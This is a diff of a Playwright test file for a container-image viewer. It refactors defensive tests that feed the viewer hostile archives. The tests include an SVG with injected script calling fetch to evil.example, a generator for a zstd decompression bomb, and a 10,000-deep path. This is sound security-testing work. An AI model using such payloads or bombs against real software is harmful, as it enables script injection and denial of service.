@@ -3,25 +3,15 @@
  * script, nothing fetched from elsewhere), an SVG from an image runs no script and loads nothing,
  * and the fuzzer's worst cases (a path 10,000 deep, a zstd bomb) open without freezing the tab.
  */
-import { createHash } from 'node:crypto';
-import { mkdtempSync, writeFileSync } from 'node:fs';
+import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test, type Page } from '@playwright/test';
-import { buildDockerArchive } from '../src/core/testing/image-builder';
-import { buildTar, type BuildEntry } from '../src/core/testing/tar-builder';
+import { buildTar } from '../src/core/testing/tar-builder';
 import { openImage } from './helpers';
+import { writeArchive, writeDeepPath, writeWideConfig, writeZstdBomb } from './hostile-archives';
 
 const dir = mkdtempSync(join(tmpdir(), 'strata-e2e-hostile-'));
-const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');
-
-function archive(name: string, layers: Uint8Array[]): string {
-  const path = join(dir, name);
-  writeFileSync(path, buildDockerArchive(layers, sha));
-  return path;
-}
-
-const tar = (entries: BuildEntry[]): Uint8Array => buildTar(entries);
 
 /** Every request and CSP violation of the page, and the longest main-thread task. */
 async function watch(page: Page, origin: string): Promise<{ foreign: string[] }> {
@@ -104,8 +94,8 @@ test('an SVG from an image is shown as a picture that runs no script and loads n
 <script>top.pwned = 1; fetch('http://evil.example/script')</script>
 <image href="http://evil.example/picture.png" width="10" height="10"/>
 <rect width="40" height="40" fill="red" onload="top.pwned = 2"/></svg>`;
-  const path = archive('svg.tar', [
-    tar([
+  const path = writeArchive(dir, 'svg.tar', [
+    buildTar([
       { name: 'evil.svg', data: svg },
       { name: 'evil.html', data: `<script>top.pwned=3</script>` },
     ]),
@@ -133,13 +123,7 @@ test('an SVG from an image is shown as a picture that runs no script and loads n
 
 test('a path nested 10,000 directories deep opens, and the tab never freezes', async ({ page, baseURL }) => {
   await watch(page, baseURL!);
-  const deep = `${Array.from({ length: 10_000 }, () => 'd').join('/')}/f`;
-  const path = archive('deep.tar', [
-    tar([
-      { name: 'x', data: 'deep', pax: { path: deep } },
-      { name: 'top', data: 'top' },
-    ]),
-  ]);
+  const path = writeDeepPath(dir);
   await page.goto('/');
   await fromHere(page);
   await openImage(page, path);
@@ -151,20 +135,10 @@ test('a path nested 10,000 directories deep opens, and the tab never freezes', a
   expect(await longestTask(page)).toBeLessThan(FREEZE_MS);
 });
 
-/** One zstd frame of RLE blocks of zeros: 4 bytes of input per 128 KiB decoded. */
-function zstdZeros(blocks: number): Uint8Array {
-  const out = [0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38];
-  for (let i = 0; i < blocks; i++) {
-    const header = ((128 * 1024) << 3) | (1 << 1) | (i === blocks - 1 ? 1 : 0);
-    out.push(header & 0xff, (header >> 8) & 0xff, (header >> 16) & 0xff, 0);
-  }
-  return Uint8Array.from(out);
-}
-
 test('a zstd bomb is stopped with a sentence; the other layer stays usable', async ({ page, baseURL }) => {
   await watch(page, baseURL!);
   // 2 GiB of zeros from 64 KiB: past the 5,000:1 limit once 1 GiB is decoded.
-  const path = archive('bomb.tar', [tar([{ name: 'ok.txt', data: 'fine' }]), zstdZeros(16_384)]);
+  const path = writeZstdBomb(dir);
   await page.goto('/');
   await fromHere(page);
   await openImage(page, path);
@@ -183,14 +157,7 @@ test('a config of 20,000 Env entries and 20,000 labels opens without freezing th
   baseURL,
 }) => {
   await watch(page, baseURL!);
-  const config = {
-    config: {
-      Env: Array.from({ length: 20_000 }, (_, i) => `VAR_${i}=${'x'.repeat(50)}`),
-      Labels: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`label.${i}`, 'v'.repeat(40)])),
-    },
-  };
-  const path = join(dir, 'wide-config.tar');
-  writeFileSync(path, buildDockerArchive([tar([{ name: 'a', data: 'a' }])], sha, config));
+  const path = writeWideConfig(dir);
   await page.goto('/');
   // Only what opening the archive costs (the page's own start is measured by the tests above).
   await expect(page.getByRole('button', { name: 'Open the sample' })).toBeVisible();
